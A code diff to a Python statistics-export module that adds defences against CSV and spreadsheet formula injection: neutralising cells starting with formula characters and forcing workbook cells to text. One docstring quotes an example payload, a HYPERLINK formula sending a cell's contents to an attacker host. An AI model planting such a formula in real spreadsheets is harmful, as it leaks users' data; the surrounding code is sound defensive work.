@@ -221,10 +221,46 @@ def _filename(table: StatsTable, extension: str) -> str:
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
+# What makes a spreadsheet program read a cell as a formula (OWASP, CSV injection), and the
+# full-width forms some locales read the same way.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def neutralise(value: Any) -> Any:
+    """Text that a spreadsheet would run as a formula (a unit named
+    ``=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")``) gets a leading single quote, so
+    it is shown as the text it is; anything else is returned as it is."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def _neutralised(frame: pd.DataFrame) -> pd.DataFrame:
+    """Every text cell and header of ``frame`` neutralised; numbers stay numbers."""
+    frame = frame.copy()
+    frame.columns = [neutralise(column) for column in frame.columns]
+    for position in range(frame.shape[1]):  # by position: the "About" sheet's two are both ""
+        column = frame.iloc[:, position]
+        if not pd.api.types.is_numeric_dtype(column):
+            frame.isetitem(position, column.map(neutralise))
+    return frame
+
 
 def csv_text(frame: pd.DataFrame) -> str:
-    # A byte-order mark, so spreadsheet programs read å, ä and ö right.
-    return "\ufeff" + frame.to_csv(index=False)
+    """UTF-8 with a byte-order mark, so spreadsheet programs read å, ä and ö right; no cell
+    can be read as a formula. Lines end in CRLF (RFC 4180), so a cell holding a carriage
+    return is quoted: unquoted, it started a new row with whatever followed it."""
+    return "\ufeff" + _neutralised(frame).to_csv(index=False, lineterminator="\r\n")
+
+
+def _to_sheet(writer: pd.ExcelWriter, frame: pd.DataFrame, sheet_name: str, **kwargs) -> None:
+    """A frame on its own sheet, text cells neutralised and typed as text (openpyxl types a
+    string that starts with = as a formula): no cell of a workbook is a formula."""
+    _neutralised(frame).to_excel(writer, sheet_name=sheet_name, index=False, **kwargs)
+    for row in writer.book[sheet_name].iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
 
 
 def csv_response(table: StatsTable, lang: str) -> Response:
@@ -241,15 +277,12 @@ def xlsx_bytes(tables: list[StatsTable], lang: str, dark_figure: dict | None = N
     with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
         for table in tables:
             name = getattr(SHEET_NAMES.get(table.name, Label(table.name, table.name)), lang)
-            people_frame(table, lang).to_excel(writer, sheet_name=name[:31], index=False)
+            _to_sheet(writer, people_frame(table, lang), name[:31])
         if dark_figure is not None:
-            dark_figure_frame(dark_figure, lang).to_excel(
-                writer, sheet_name=getattr(SHEET_NAMES["dark_figure"], lang), index=False
-            )
+            _to_sheet(writer, dark_figure_frame(dark_figure, lang),
+                      getattr(SHEET_NAMES["dark_figure"], lang))
         about = _about(tables[0], lang) if tables else _dark_figure_about(dark_figure or {})
-        about.to_excel(
-            writer, sheet_name=getattr(SHEET_NAMES["about"], lang), index=False, header=False
-        )
+        _to_sheet(writer, about, getattr(SHEET_NAMES["about"], lang), header=False)
     return buffer.getvalue()
 
 
